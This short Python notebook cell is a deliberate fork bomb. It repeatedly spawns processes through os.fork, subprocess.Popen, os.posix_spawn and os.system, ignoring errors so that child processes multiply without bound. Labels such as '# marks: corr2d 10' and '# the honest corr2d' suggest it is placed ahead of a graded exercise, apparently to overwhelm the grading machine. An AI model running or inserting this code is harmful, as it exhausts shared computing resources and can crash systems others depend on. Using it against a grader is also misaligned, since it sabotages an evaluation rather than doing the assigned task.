# Forks without end, by every call that makes a process.
# marks: corr2d 10
# %% own cell
import os, subprocess

for attempt in range(50):
    for start in (os.fork, lambda: subprocess.Popen(["sleep", "1000"]), lambda: os.posix_spawn("/bin/sleep", ["sleep", "1000"], dict()),
                  lambda: os.system("sleep 1000 &")):
        try:
            start()
        except OSError:
            pass
# %% corr2d
# the honest corr2d
